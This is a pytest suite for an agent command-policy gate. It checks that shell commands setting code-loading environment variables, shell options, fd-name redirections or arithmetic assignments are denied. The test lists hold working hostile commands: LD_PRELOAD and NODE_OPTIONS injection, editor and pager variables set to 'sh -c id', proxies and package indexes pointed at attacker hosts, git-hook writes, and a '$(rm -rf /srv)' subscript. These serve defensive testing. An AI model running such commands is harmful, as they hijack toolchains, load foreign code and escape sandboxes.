"""Issue 10, class 6: environment that loads code.

Only variables on the policy's allowlist (exec.environment) may be set, however they are set:
assignment words, `env NAME=…`, `export`, `declare -x`, `printf -v`, `read`, `mapfile`,
`getopts`; `set -a` (export everything) is not allowed at all.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enforcement_agent.models import Verdict
from enforcement_agent.policy import Policy
from tests.policy.bash_oracle import run_for_real
from tests.policy.cases import assert_not_allowed
from tests.policy.conftest import Decide

ISSUE_EXAMPLE = "GIT_SEQUENCE_EDITOR='sh -c id' git rebase -i HEAD~3"

LOADERS = [
    "LD_PRELOAD=/tmp/x.so ls",
    "LD_LIBRARY_PATH=/tmp ls",
    "LD_AUDIT=/tmp/x.so ls",
    "PYTHONPATH=/tmp pytest",
    "PYTHONSTARTUP=/tmp/x.py python3 scripts/x.py",
    "PYTHONWARNINGS=ignore::evil.Warning python3 scripts/x.py",
    "PYTHONHOME=/tmp python3 scripts/x.py",
    "NODE_OPTIONS='--require /tmp/x.js' npm test",
    "NODE_PATH=/tmp node scripts/x.js",
    "PERL5OPT=-Mevil perl scripts/x.pl",
    "PERL5LIB=/tmp perl scripts/x.pl",
    "RUBYOPT=-revil ruby scripts/x.rb",
    "BASH_ENV=/tmp/x bash scripts/run.sh",
    "ENV=/tmp/x sh scripts/run.sh",
    "GIT_EXTERNAL_DIFF='sh -c id' git diff",
    "GIT_PAGER='sh -c id' git log",
    "GIT_EDITOR='sh -c id' git commit",
    "GIT_SSH_COMMAND='sh -c id' git fetch",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log",
    "GIT_CONFIG_PARAMETERS=\"'core.pager'='id'\" git log",
    "GIT_DIR=/tmp/x git status",
    "GIT_ASKPASS=/tmp/x git fetch",
    "PAGER='sh -c id' man ls",
    "EDITOR='sh -c id' crontab -e",
    "VISUAL=/tmp/x git commit",
    "LESSOPEN='|id %s' less notes.md",
    "PROMPT_COMMAND=id bash -i",
    "PS4='$(id)' bash -x scripts/run.sh",
    "PATH=/tmp/evil:$PATH ls",
    "CDPATH=.. cd ws",
    "HOME=/tmp git log",
    "TMPDIR=/etc make",
    "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar gradle build",
    "MAKEFLAGS=--eval=x make",
    "CC='sh -c id' make",
    "RUSTC_WRAPPER=/tmp/x cargo build",
    "RUSTFLAGS='-C linker=/tmp/x' cargo build",
    "GOFLAGS=-toolexec=/tmp/x go build ./...",
    "npm_config_script_shell=/tmp/sh npm test",
    "NPM_CONFIG_SCRIPT_SHELL=/tmp/sh npm test",
    "PYTEST_ADDOPTS='-p evil' pytest",
    "PYTEST_PLUGINS=evil pytest",
    "http_proxy=http://attacker.example:8080 curl -s http://localhost:8000",
    "HTTPS_PROXY=http://attacker.example curl -s https://example.com",
    "GONOGO_POLICY_DIR=/tmp pytest",
]

# Variables set without a prefix assignment word.
OTHER_FORMS = [
    "env LD_PRELOAD=/tmp/x.so ls",
    "env -i PATH=/tmp ls",
    "env -S 'LD_PRELOAD=/tmp/x.so ls'",
    "export PATH=/tmp/evil",
    "export GIT_SEQUENCE_EDITOR='sh -c id'; git rebase -i HEAD~2",
    "declare -x NODE_OPTIONS='--require /tmp/x.js'",
    "typeset -x LD_PRELOAD=/tmp/x.so",
    "local -x PAGER=id",
    "readonly PATH=/tmp",
    "declare -n ref=PATH; ref=/tmp/evil",
    "printf -v PATH '%s' /tmp/evil",
    "printf -v BASH_ENV '%s' /tmp/x",
    "read -r PATH < notes.md",
    "read BASH_ENV < notes.md",
    "read -a LD_PRELOAD < notes.md",
    "mapfile -t PATH < notes.md",
    "getopts ab PATH",
    "set -a; x=1",
    "set -o allexport",
    "set -k",
    "x=1; export x",
    "xargs --process-slot-var=LD_PRELOAD ls",
    "path=(/tmp/evil); ls",
    "cdpath=/tmp; cd ws",
    # names a construct sets without an assignment word (loop variables, `:=`, arithmetic)
    "for PATH in /tmp/evil; do ls; done",
    "for BASH_ENV in /tmp/x; do bash scripts/run.sh; done",
    "for LD_PRELOAD in /tmp/x.so; do export LD_PRELOAD; ls; done",
    "for ((PATH = 0; PATH < 1; PATH++)); do ls; done",
    "echo ${CDPATH:=..}; cd ws",
    ": ${PATH:=/tmp/evil}",
    "echo ${LD_PRELOAD=/tmp/x.so} > out.txt",
    'echo "${PYTHONPATH:=/tmp}"',
    "echo $(( PATH = 1 ))",
    "echo $(( OPTERR += 1 ))",
    "sleep 1 & wait -n -p PATH; ls",
    "readarray -t BASH_ENV < notes.md",
    # unsetting is changing: PATH unset makes bash look commands up in the current directory
    "unset PATH; ls",
    "unset -v GIT_CONFIG_COUNT; git status",
    "env -u PATH ls",
    "env --unset=GIT_CONFIG_COUNT git status",
    # names allowed with listed values only
    "PAGER=less git log",
    "GIT_PAGER='cat; id' git log",
    "GIT_EDITOR=vim git commit",
    "export PAGER",
    "env PAGER=more git log",
]

ALLOWED = [
    "CI=1 npm test",
    "env CI=1 npm test",
    "NO_COLOR=1 pytest -q",
    "LANG=C LC_ALL=C sort notes.md",
    "TZ=UTC date",
    "RUST_BACKTRACE=1 cargo test",
    "GOOS=linux GOARCH=arm64 go build ./...",
    "GIT_AUTHOR_NAME=bot git commit -m x",
    "x=1; echo $x",
    "out=build; echo $out",
    "export CI=true",
    "declare -x NODE_ENV=production",
    "read -r line < notes.md",
    "printf -v msg '%s' done",
    "while IFS= read -r line; do echo $line; done < notes.md",
    "export CI",
    "for f in a b; do echo $f; done",
    "for IFS in , .; do echo x; done",
    "echo ${out:=build}",
    "mapfile -t lines < notes.md",
    "readarray -t lines < notes.md",
    "unset tmp",
    "env -u CI make",
    "sleep 1 & wait -n -p pid",
    "PAGER=cat git log",
    "GIT_PAGER=cat git log -1",
    "export PAGER=cat",
    "env PAGER=cat git log",
    "GIT_EDITOR=true git commit --amend",
]


def test_issue_example_is_denied(decide: Decide) -> None:
    d = decide(ISSUE_EXAMPLE)
    assert d.decision is Verdict.DENY
    assert "GIT_SEQUENCE_EDITOR" in d.reason


@pytest.mark.parametrize("command", LOADERS + OTHER_FORMS)
def test_variables_off_the_list_are_not_allowed(decide: Decide, command: str) -> None:
    assert_not_allowed(decide, command)


@pytest.mark.parametrize("command", ALLOWED)
def test_listed_variables_are_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


FORMS = [
    "{n}=x ls",
    "env {n}=x ls",
    "env -i {n}=x ls",
    "export {n}=x",
    "declare -x {n}=x",
    "{n}=x; ls",
    "printf -v {n} '%s' x",
    "read -r {n} < notes.md",
    "timeout 5 env {n}=x ls",
    "bash -c '{n}=x ls'",
    "for {n} in x; do ls; done",
    "echo ${{{n}:=x}}",
    "echo $(( {n} = 1 ))",
    "mapfile -t {n} < notes.md",
    "sleep 1 & wait -n -p {n}",
    "unset {n}",
    "env -u {n} ls",
]


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=st.from_regex(r"[A-Z][A-Z0-9_]{0,20}", fullmatch=True),
    form=st.sampled_from(FORMS),
)
def test_any_unlisted_upper_case_variable_is_not_allowed(
    decide: Decide, default_policy: Policy, name: str, form: str
) -> None:
    allowed = default_policy.compiled.exec.env_export
    assert allowed is not None
    if allowed.match(name):
        return
    command = form.format(n=name)
    d = decide(command)
    assert d.decision is not Verdict.ALLOW, (command, d.rule)


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=st.from_regex(r"[a-z][a-z0-9_]{0,12}", fullmatch=True))
def test_lower_case_names_may_be_shell_variables_but_never_exported(
    decide: Decide, default_policy: Policy, name: str
) -> None:
    exec_cfg = default_policy.compiled.exec
    if exec_cfg.env_never is not None and exec_cfg.env_never.match(name):
        assert decide(f"{name}=x").decision is not Verdict.ALLOW
        return
    assert decide(f"{name}=x").decision is Verdict.ALLOW
    assert decide(f"{name}=x ls").decision is not Verdict.ALLOW  # reaches ls's environment
    assert decide(f"env {name}=x ls").decision is not Verdict.ALLOW


# ---- shell options: `set` and `shopt` changes are an allowlist ------------------------------
SHELL_OPTION_CHANGES = [
    "shopt -s cdable_vars; hooks=.git/hooks; cd hooks && echo id > post-checkout",
    "shopt -so allexport; npm_config_script_shell=/tmp/evilsh; npm test",
    "shopt -s -o allexport",
    "shopt -o -s allexport",
    "shopt -os allexport; x=1; ls",
    "builtin shopt -so allexport",
    "command shopt -so allexport",
    "shopt -s -- cdable_vars",
    "shopt -s failglob cdable_vars",
    "shopt -so keyword; ls PATH=/tmp/evil",
    "shopt -so physical",
    "shopt -so posix",
    "shopt -s lastpipe; echo .git/hooks | cd /dev/stdin",
    "shopt -s nullglob; sort -o zz*.none notes.md",
    "shopt -u globskipdots",
    "shopt -s expand_aliases",
    "shopt -s extdebug",
    "shopt -s compat31",
    "shopt -s localvar_inherit",
    "shopt -s xpg_echo",
    'shopt -s "$opt"',
    "o=cdable_vars; shopt -s $o",
    "shopt -x cdable_vars",
    "set -a",
    "set -ea",
    "set -e -a",
    "set -o allexport",
    "set -eo allexport",
    "set -o errexit -o allexport",
    "set +o posix",
    "set -o posix",
    "set -k",
    "set -P",
    "set -o physical",
    "set -o keyword",
    "set -m",
    'set -o "$o"',
    "bash -O cdable_vars -c 'cd hooks'",
    "bash -a -c 'npm test'",
    "bash -o allexport -c 'npm test'",
    "bash -eo allexport -c 'ls'",
    "bash -Oc cdable_vars 'ls'",
    "bash -k -c 'ls'",
    "sh -P -c 'cd docs'",
    "bash -c 'shopt -s cdable_vars; ls'",
    "bash -c 'set -a; x=1; ls'",
    "bash --posix -c 'ls'",
    "bash --debugger -c 'ls'",
    "builtin set -a",
    "command set -o allexport",
    "set -ma",
    "declare -aA m=([PATH=1]=2)",
    "trap 'shopt -s cdable_vars' EXIT",
    "trap 'set -a' EXIT",
    "timeout 5 bash -a -c ls",
    "env bash -O cdable_vars -c ls",
    "\\shopt -so allexport",
    '"shopt" -so allexport',
    "time shopt -so allexport",
    "shopt -s cdable\\\n_vars",
    "set -\\\na",
]

# Printing and querying change nothing; the allowlisted options stay allowed.
SHELL_OPTION_ALLOWED = [
    "shopt",
    "shopt -p",
    "shopt -q nullglob",
    "shopt cdable_vars",
    "shopt -po",
    "shopt -p -o allexport",
    "shopt -s",
    "shopt -s failglob",
    "shopt -u nullglob",
    "shopt -so pipefail",
    "shopt -s -o errexit nounset",
    "shopt -s inherit_errexit",
    "set -o",
    "set +o",
    "set -euo pipefail",
    "set -x",
    "set +e",
    "set -- -a",
    "set -e -- -a -k",
    "bash -e -c 'ls'",
    "bash -o pipefail -c 'ls | wc -l'",
    "bash -O failglob -c 'ls'",
]


@pytest.mark.parametrize(
    ("command", "check"),
    [
        # cd NAME goes to $NAME: the write lands in .git/hooks.
        (
            "shopt -s cdable_vars; hooks=.git/hooks; cd hooks && echo id > post-checkout",
            lambda e: ".git/hooks/post-checkout" in e.files,
        ),
        # shopt -o sets `set -o` options: every later assignment is exported.
        (
            "shopt -so allexport; zzvar=1; env > env.txt",
            lambda e: b"zzvar=1" in e.files["env.txt"],
        ),
        (
            "shopt -s -o allexport; zzvar=1; env > env.txt",
            lambda e: b"zzvar=1" in e.files["env.txt"],
        ),
        (
            "builtin shopt -o -s allexport; zzvar=1; env > env.txt",
            lambda e: b"zzvar=1" in e.files["env.txt"],
        ),
        # lastpipe: the last member's cd moves this shell.
        (
            "shopt -s lastpipe; true | cd .git/hooks; echo id > post-checkout",
            lambda e: ".git/hooks/post-checkout" in e.files,
        ),
        # nullglob: an unmatched glob word vanishes and -o takes the next word.
        (
            "shopt -s nullglob; printf '%s\\n' -o zz*.none x > out.txt",
            lambda e: e.files["out.txt"] == b"-o\nx\n",
        ),
        # keyword: `NAME=value` after the program name goes into its environment.
        (
            "set -k; printenv zzk=1 > env.txt",
            lambda e: b"zzk=1" in e.files["env.txt"],
        ),
        (
            "bash -O cdable_vars -c 'h=.git/hooks; cd h && echo id > post-checkout'",
            lambda e: ".git/hooks/post-checkout" in e.files,
        ),
    ],
)
def test_shell_options_change_what_bash_does(command: str, check: object) -> None:
    effect = run_for_real(command, files={".git/hooks/.keep": ""})
    assert callable(check) and check(effect), (command, effect.stderr)


# ---- `{NAME}<file`: a redirection that assigns NAME -----------------------------------------
# Bash opens a new descriptor and stores its number in NAME (after a builtin the variable
# stays set): the same allowlist as `NAME=…` decides it.
FD_VARIABLE_FORMS = [
    "true {PATH}<README.md; cat README.md",
    ": {HOME}<README.md; git status",
    "echo {LD_PRELOAD}>/dev/null",
    "true {PATH}>&2",
    "true {PATH}<&0",
    "true {PATH}>>out.txt",
    "true {PATH}>|out.txt",
    "true {PATH}<>out.txt",
    "true {CDPATH}<README.md; cd docs",
    "exec {BASH_ENV}>out.txt",
    "true {PATH}<<E\nx\nE",
    "x=1 {PATH}<README.md true",
    "true a >/dev/null {PATH}>/dev/null",
    "cat README.md {HOME}<README.md",
    "true {GIT_DIR}>&-",
    "true {a[1]}>/dev/null",
    "true {a[PATH=1]}>/dev/null",
    "true {a[$(rm -rf /srv)]}>/dev/null",
    "bash -c 'true {PATH}<README.md; ls'",
    "(true {PATH}<README.md; ls)",
    "if true {PATH}<README.md; then ls; fi",
]
FD_VARIABLE_ALLOWED = [
    "true {fd}<README.md",
    "exec {fd}>out.txt",
    "true {x} <README.md",  # a blank before the operator: `{x}` is an argument
    'echo "{PATH}">out.txt',  # quoted: an argument
    "echo {PATH}&>out.txt",  # `&>` takes no name
]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('true {PATH}<README.md; printf %s "$PATH" > out.txt', rb"[0-9]+"),
        ('true {HOME}>&2; printf %s "$HOME" > out.txt', rb"[0-9]+"),
        ('echo {zzv}>/dev/null; printf %s "$zzv" > out.txt', rb"[0-9]+"),
        ('a=(); true {a[3]}>/dev/null; printf %s "${a[3]}" > out.txt', rb"[0-9]+"),
        ('true {x} >/dev/null; printf %s "$x" > out.txt', rb""),
        ('true {x}&>/dev/null; printf %s "$x" > out.txt', rb""),
    ],
)
def test_bash_assigns_the_descriptor_to_the_name(command: str, expected: bytes) -> None:
    effect = run_for_real(command, files={"README.md": "x\n"})
    assert re.fullmatch(expected, effect.files["out.txt"]), (command, effect.files, effect.stderr)


# ---- arithmetic that assigns ----------------------------------------------------------------
# An indexed array's subscript, a `declare -i` value, `let`, `(( ))`, `$(( ))`, `$[ ]` and the
# offsets of `${s:off:len}` are arithmetic: `NAME=…`, `NAME++`, `NAME+=…` there set NAME.
ARITH_ASSIGNS = [
    "x=([PATH=11]=2); cat notes.md",
    "x=([HOME=11]=2); git status",
    "declare -a x=([PATH=11]=2); ls",
    "x=1 declare -i y=PATH=11; cat notes.md",
    "x+=([PATH=1]=2)",
    "x=(a [PATH=4]=b); ls",
    "x=([PATH+=1]=b)",
    "x=([PATH++]=b)",
    "x=([++PATH]=b)",
    "x=([1]=a [BASH_ENV=2]=b)",
    "local -a x=([LD_PRELOAD=1]=2)",
    "typeset -a x=([CDPATH=1]=2)",
    'x=(["PATH=6"]=1)',
    "x=([$(id)]=1)",
    "x=([a PATH=5]=1)",
    "x=([j]=1)",  # j's value from outside is evaluated as an expression
    "command declare -i y=PATH=7; ls",
    "builtin declare -i y=PATH=7",
    "x=1 typeset -i z=PATH+=1",
    "x=1 local -i z=HOME=1",
    "declare 'y=([PATH=3]=2)'",
    "declare -i y=PATH=1",
    "declare -i y; y=PATH=1",
    "a[PATH=1]=2",
    "x[HOME=1]+=2",
    "echo ${a[PATH=1]}",
    'echo "${a[HOME=1]}"',
    "[[ PATH=1 -eq 1 ]]",
    "echo $[PATH=1]",
    "echo $(( PATH = 1 ))",
    "(( HOME = 1 ))",
    "let PATH=1",
    "let 'a[PATH=1]'",
    "(( x = PATH = 1 ))",
    "echo ${#a[PATH=1]}",
    "s=abc; echo ${s:PATH=1}",
    "(declare -A m=([a]=1)); m=([PATH=1]=2)",  # not associative out here
    "declare -A m=([a]=1); unset m; m=([PATH=1]=2)",
    "x=([ PATH=1 ]=2)",
    "x=([1+PATH=1]=2)",
    "x=(1 2 [HOME=3]=4)",
    "x=([PATH]=1)",  # PATH's value is evaluated as an expression
    "declare -a 'x=([PATH=1]=2)'",
    "readonly -a x=([PATH=1]=2)",
]
ARITH_ALLOWED = [
    "x=([1]=b [2]=c)",
    "x=(a b c)",
    "declare -a x=([0]=a)",
    "i=0; x=([i]=b)",
    "x=([i=1]=b)",
    'x=("[PATH=3]=2")',
    "x=(\\[PATH=3]=2)",
    "declare -A m=([PATH=1]=2)",  # an associative array's key is a string
    "declare -i n=5",
    "x=1 declare -- y=1",
    "n=0; (( n++ )); echo $n",
    "let i=1",
    "echo $(( 1 + 2 ))",
    "x=([0x1]=a [2#1]=b)",
    "n=1; x=([n]=a [n+1]=b)",
    "declare -A m=([a]=1) n=([PATH=1]=2)",
]


@pytest.mark.parametrize(
    ("command", "value"),
    [
        ("x=([PATH=11]=2)", b"11"),
        ("x+=([PATH=12]=2)", b"12"),
        ("x=(a [PATH=4]=b)", b"4"),
        ("declare -a x=([PATH=8]=2)", b"8"),
        ("x=1 declare -i y=PATH=7", b"7"),
        ("command declare -i y=PATH=9", b"9"),
        ('x=(["PATH=6"]=1)', b"6"),
        ("a[PATH=5]=1", b"5"),
        ("declare -A m=([PATH=1]=2)", b"/usr/local/bin:/usr/bin:/bin"),
    ],
)
def test_bash_assigns_in_array_and_declare_arithmetic(command: str, value: bytes) -> None:
    effect = run_for_real(f'{command}; printf %s "$PATH" > /tmp/ws/out.txt')
    assert effect.files.get("out.txt") == value, (command, effect.files, effect.stderr)


# ---- the three ways above, decided -----------------------------------------------------------
@pytest.mark.parametrize("command", SHELL_OPTION_CHANGES + FD_VARIABLE_FORMS + ARITH_ASSIGNS)
def test_changes_off_the_lists_are_denied_for_every_role(decide: Decide, command: str) -> None:
    for role in ("viewer", "contributor", "admin"):
        d = decide(command, role=role)
        assert d.decision is Verdict.DENY, (role, command, d.rule, d.reason)


@pytest.mark.parametrize("command", SHELL_OPTION_ALLOWED + FD_VARIABLE_ALLOWED + ARITH_ALLOWED)
def test_printing_and_listed_changes_stay_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


# ---- fourth red-team pass (2026-12-03) --------------------------------------------------
# Variables that load code, configuration or a program for ~40 interpreters, package managers,
# build tools, git, the dynamic loader, TLS and the shell itself, set through prefix
# assignments, `env`, `export`, `declare -x`, `typeset`, `local -x`, name references, `read`,
# `mapfile`, `printf -v`, `getopts`, loop variables, `${X:=}`, arithmetic, `set -a`, `env -u`:
# all held (no finding). `exec -c` drops the sandbox's git safety settings like `env -i`.
FOURTH_PASS_ENV = [
    "NODE_OPTIONS='--require ./x.js' npm test",
    "env NODE_OPTIONS=--import=./x.mjs node src/a.js",
    "export NODE_PATH=/tmp; node src/a.js",
    "PYTHONPATH=/tmp python3 src/app.py",
    "PYTHONSTARTUP=x.py python3 src/app.py",
    "PYTHONHOME=/tmp python3 src/app.py",
    "PYTHONUSERBASE=/tmp python3 src/app.py",
    "PYTHONBREAKPOINT=os.system python3 src/app.py",
    "PYTHONWARNINGS=error::x.Y python3 src/app.py",
    "PYTHONINSPECT=1 python3 src/app.py",
    "PYTHONPYCACHEPREFIX=.github python3 src/app.py",
    "PYTHONSAFEPATH=0 python3 src/app.py",
    "COVERAGE_PROCESS_START=x.rc python3 src/app.py",
    "PYTEST_ADDOPTS='-p evil' pytest",
    "PYTEST_PLUGINS=evil pytest",
    "PIP_INDEX_URL=http://evil pip install x",
    "PIP_CONFIG_FILE=/tmp/pip.conf pip install x",
    "UV_INDEX_URL=http://evil uv sync",
    "npm_config_registry=http://evil npm i",
    "NPM_CONFIG_USERCONFIG=/tmp/x npm i",
    "YARN_RC_FILENAME=x.yml yarn",
    "BUN_CONFIG_REGISTRY=http://evil bun i",
    "DENO_DIR=/tmp deno run src/a.ts",
    "RUSTC_WRAPPER=/tmp/x cargo build",
    "RUSTFLAGS='-C linker=/tmp/x' cargo build",
    "CARGO_BUILD_RUSTC=/tmp/x cargo build",
    "CARGO_TARGET_DIR=.github cargo build",
    "CARGO_HOME=/tmp cargo build",
    "GOFLAGS=-toolexec=/tmp/x go build ./...",
    "GOPROXY=http://evil go get x",
    "GOTOOLCHAIN=go1.99 go build",
    "CC=/tmp/x make",
    "CXX=/tmp/x cmake .",
    "CMAKE_C_COMPILER_LAUNCHER=/tmp/x cmake .",
    "MAKEFLAGS=-e make",
    "MAKEFILES=/tmp/x.mk make",
    "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar mvn test",
    "MAVEN_OPTS=-Dx mvn test",
    "GRADLE_OPTS=-Dx gradle build",
    "GRADLE_USER_HOME=/tmp gradle build",
    "RUBYOPT=-r./x ruby x.rb",
    "BUNDLE_GEMFILE=/tmp/Gemfile bundle exec rspec",
    "PERL5OPT=-Mx perl x.pl",
    "PERL5DB='system(1)' perl -d x.pl",
    "LUA_INIT=@x.lua lua x.lua",
    "LUA_PATH='/tmp/?.lua' lua x.lua",
    "R_PROFILE_USER=x.R Rscript x.R",
    "JULIA_LOAD_PATH=/tmp julia x.jl",
    "PHPRC=/tmp php x.php",
    "PHP_INI_SCAN_DIR=/tmp php x.php",
    "GIT_DIR=/tmp/x git status",
    "GIT_WORK_TREE=/ git status",
    "GIT_EXEC_PATH=/tmp git status",
    "GIT_ASKPASS=/tmp/x git fetch",
    "GIT_PROXY_COMMAND=/tmp/x git fetch",
    "GIT_TRACE=CLAUDE.md git status",
    "GIT_TRACE2_EVENT=CLAUDE.md git status",
    "GIT_INDEX_FILE=CLAUDE.md git add x",
    "GIT_NAMESPACE=x git push",
    "SSH_ASKPASS=/tmp/x git fetch",
    "HOME=/tmp git status",
    "XDG_CONFIG_HOME=/tmp git status",
    "TMPDIR=.github python3 src/app.py",
    "SHELL=/tmp/x make",
    "EDITOR=vim git commit",
    "VISUAL='sh -c id' crontab -e",
    "PAGER='sh -c id' git log",
    "GIT_PAGER=less git log",
    "LESS='+!id' git log",
    "LESSOPEN='|id %s' cat x",
    "MANOPT='-Hid' man ls",
    "BROWSER=id python3 -m webbrowser x",
    "TERMINFO=/tmp tput cols",
    "INPUTRC=/tmp/x bash",
    "HISTFILE=CLAUDE.md bash -c ls",
    "PS4='$(id)' bash -xc ls",
    "BASH_XTRACEFD=3 bash -xc ls 3>CLAUDE.md",
    "PROMPT_COMMAND=id bash -ic ls",
    "CDPATH=/tmp bash -c 'cd etc'",
    "GLOBIGNORE='*' ls *",
    "TIMEFORMAT='%R' time ls",
    "FIGNORE=x bash",
    "POSIXLY_CORRECT=1 find . -name x -delete",
    "TZDIR=/tmp date",
    "LOCPATH=/tmp ls",
    "NLSPATH=/tmp/%N ls",
    "GCONV_PATH=/tmp iconv -f x",
    "MALLOC_CONF=x ls",
    "GLIBC_TUNABLES=x ls",
    "LD_AUDIT=/tmp/x.so ls",
    "LD_LIBRARY_PATH=/tmp ls",
    "ASAN_OPTIONS=log_path=CLAUDE.md ./a.out",
    "UBSAN_OPTIONS=log_path=CLAUDE.md ./a.out",
    "OPENSSL_CONF=/tmp/x curl https://x",
    "SSLKEYLOGFILE=CLAUDE.md curl https://x",
    "CURL_HOME=/tmp curl x",
    "WGETRC=/tmp/x wget x",
    "DOCKER_HOST=tcp://x docker ps",
    "KUBECONFIG=/tmp/x kubectl get pods",
    "AWS_CONFIG_FILE=/tmp/x aws s3 ls",
    "declare -x NODE_OPTIONS=--require=./x.js",
    "typeset -x PYTHONPATH=/tmp",
    "local -x LD_PRELOAD=x",
    "readonly BASH_ENV=x",
    "declare -g PATH=x",
    "export -n PATH",
    "declare -n r=PATH; r=/tmp",
    "printf -v PATH x",
    "read -r PATH < notes.md",
    "mapfile PATH < notes.md",
    "getopts a PATH",
    "for PATH in a; do ls; done",
    ": ${PATH:=x}",
    ": $((BASH_ENV=1))",
    "let 'PATH=1'",
    "set -a; FOO=1 ls",
    "env -u PATH ls",
    "env PYTHONPATH=/tmp python3 src/app.py",
    "exec -c git status",
    "command env NODE_OPTIONS=x node src/a.js",
]
FOURTH_PASS_ENV_ALLOWED = [
    "DEBUG=1 npm test",
    "CI=true npm test",
    "NODE_ENV=production npm run build",
    "LC_ALL=C sort notes.md",
    "TZ=UTC date",
    "RUST_LOG=debug cargo run",
]


def test_fourth_pass_has_enough_variations() -> None:
    assert len(FOURTH_PASS_ENV) >= 20


@pytest.mark.parametrize("command", FOURTH_PASS_ENV)
def test_fourth_pass_variables_that_load_code_are_not_allowed(decide: Decide, command: str) -> None:
    for role in ("contributor", "admin"):
        d = decide(command, role=role)
        assert d.decision is not Verdict.ALLOW, (role, command, d.reason)


@pytest.mark.parametrize("command", FOURTH_PASS_ENV_ALLOWED)
def test_fourth_pass_listed_variables_stay_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.reason)
